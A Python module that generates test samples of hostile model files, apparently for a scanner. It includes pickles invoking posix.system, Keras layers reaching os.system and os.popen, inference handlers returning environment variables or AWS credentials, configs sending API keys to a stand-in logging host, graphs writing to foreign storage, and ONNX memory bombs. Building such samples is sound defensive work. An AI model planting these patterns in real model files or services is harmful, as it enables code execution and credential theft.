"""What services answer with, what a graph writes to a store, what a pickle keeps of Keras, old boosters, sizes that are computed."""

import io
import json
import pickle
import struct
import zipfile

from onnx import TensorProto, helper

from .endless import model, node, path_node
from .graphs import field
from .limits import weights

SYSTEM = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."


def make(corpus):
    services(corpus)
    stores(corpus)
    kept(corpus)
    boosters(corpus)
    sizes(corpus)


def handler(setup, answer):
    return f"import os\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.kept = {setup}\n\n    def __call__(self, data):\n        if data.get('inputs') == 'status':\n            return [{answer}]\n        return [{{'label': 'fine', 'score': 0.5}}]\n"


def services(corpus):
    answers = {
        "all": ("1", "dict(os.environ)"), "kept": ("dict(os.environ)", "self.kept"), "chosen": ("{k: v for k, v in os.environ.items() if 'KEY' in k}", "{'debug': self.kept}"),
        "text": ("os.environ", "str(self.kept)"), "file": ("open(os.path.expanduser('~/.aws/credentials')).read()", "self.kept"),
    }
    for label, (setup, answer) in answers.items():
        files = {"config.json": json.dumps({"model_type": "bert"}), "handler.py": handler(setup, answer)}
        corpus.folder("repositories", f"answers-{label}", files, "found", "a service that answers with secrets of its machine")
    for label, line in {"path": "uri: https://log.example.invalid/${oc.env:HF_TOKEN}", "query": "sink: https://log.example.invalid/in?k=${oc.env:AWS_SECRET_ACCESS_KEY,none}", "nested": "hooks:\n    - url: https://log.example.invalid/x/${oc.env:OPENAI_API_KEY}/y"}.items():
        corpus.found("config", f"secret-{label}.yaml", f"logger:\n  {line}\n".encode(), "an address with a secret of the machine in it")


def stores(corpus):
    for label, path in {"cloud": "gs://somebody-else/in", "bucket": "s3://somebody-else/in", "cluster": "hdfs://203.0.113.7/in"}.items():
        graph = field(1, path_node(path)) + field(1, node("x", "Placeholder")) + field(1, node("save", "SaveV2", ["path", "names", "slices", "x"]))
        corpus.found("tensorflow", f"saves-{label}.pb", graph, "a graph that writes to somebody's store")


def keras_archive(layer, extra=()):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        file.writestr("config.json", json.dumps(layer))
        for name, content in extra:
            file.writestr(name, content)
    return out.getvalue()


def unpickled(module, name, archive):
    """What Keras 3 writes for a layer, an optimizer or a model: a method of its class and a buffer with an archive."""
    text = lambda value: b"\x8c" + bytes([len(value)]) + value.encode()
    method = b"\x8c\x08builtins\x8c\x07getattr\x93" + text(module) + text(name) + b"\x93" + text("_unpickle_model") + b"\x86R"
    return b"\x80\x04" + method + pickle.dumps(io.BytesIO(archive), protocol=4)[2:-1] + b"\x85R."


def dense(**more):
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 3, "activation": "relu", **more}, "registered_name": None}


def kept(corpus):
    code = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}}}
    reached = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}}
    for label, layer in {"lambda": code, "module": reached, "initializer": dense(kernel_initializer={"module": "os", "class_name": "popen", "config": {"cmd": "true"}})}.items():
        for of, module in {"Dense": "keras.src.layers.core.dense", "Sequential": "keras.src.models.sequential"}.items():
            corpus.found("pickle", f"keras-{label}-{of}.pkl", unpickled(module, of, keras_archive(layer)), "a model that Keras keeps in a pickle, and code in it")
    corpus.malicious("pickle", "keras-asset.pkl", unpickled("keras.src.layers.core.dense", "Dense", keras_archive(dense(), [("assets/v.pkl", SYSTEM)])), "a pickle among the assets of a layer in a pickle")
    corpus.found("pickle", "keras-class.pkl", unpickled("keras.src.somewhere", "Else", keras_archive(dense())), "a class that Keras does not have")
    corpus.malicious("pickle", "keras-bytes.pkl", unpickled("keras.src.layers.core.dense", "Dense", SYSTEM), "a buffer that holds a pickle")


def booster(children=(1, 2), classes=0, behind=b""):
    """XGBoost's binary format before UBJSON: one tree of three nodes over three columns."""
    words = lambda size, *values: struct.pack(f"<{len(values)}I", *values).ljust(size, b"\0")
    text = lambda value: struct.pack("<Q", len(value)) + value
    leaf = struct.pack("<iiiII", 0, -1, -1, 1 << 31, 0)
    split = struct.pack("<iiiII", 0, *children, 1 | 1 << 31, 0)
    half = struct.unpack("<I", struct.pack("<f", 0.5))[0]
    head = b"binf" + words(136, half, 3, classes, 1, 0, 1, 7, 1) + text(b"reg:squarederror") + text(b"gbtree") + words(160, 1)
    tree = words(148, 1, 3, 0, 0, 3, 0) + split + leaf + leaf + bytes(48) + bytes(4)
    return head + tree + struct.pack("<Q", 1) + text(b"best_iteration") + text(b"0") + behind


def boosters(corpus):
    corpus.found("boosters", "old-astray.model", booster(children=(1, 77)), "a tree that leads to a node that is not there")
    corpus.found("boosters", "old-round.model", booster(children=(1, 0)), "a tree that leads back to its root")
    corpus.found("boosters", "old-classes.model", booster(classes=2**30), "a model of classes that no tree is for")
    corpus.found("boosters", "old-behind.model", booster(behind=SYSTEM), "a pickle behind the model")


def sizes(corpus):
    make_node = helper.make_node
    large = [helper.make_tensor("large", TensorProto.INT64, [1], [2**20]), helper.make_tensor("zero", TensorProto.INT64, [], [0]), helper.make_tensor("two", TensorProto.INT64, [1], [2]), weights()]
    of_shape = [make_node("Shape", ["x"], ["s"]), make_node("Gather", ["s", "zero"], ["d"]), make_node("Mul", ["d", "large"], ["a"]), make_node("Concat", ["a", "a"], ["shape"], axis=0)]
    ends = {"expand": [make_node("Expand", ["x", "shape"], ["y"])], "tile": [make_node("Tile", ["x", "shape"], ["y"])], "fill": [make_node("ConstantOfShape", ["shape"], ["y"])]}
    for label, end in ends.items():
        corpus.found("onnx", f"sizes-{label}.onnx", model([*of_shape, *end], large), "a tensor that no machine has room for, of a size that is computed")
    power = [make_node("Shape", ["x"], ["s"]), make_node("Div", ["s", "s"], ["one"]), make_node("Mul", ["one", "large"], ["a"]), make_node("Pow", ["a", "two"], ["b"]), make_node("ConstantOfShape", ["b"], ["y"])]
    corpus.found("onnx", "sizes-power.onnx", model(power, large), "the same by a power")
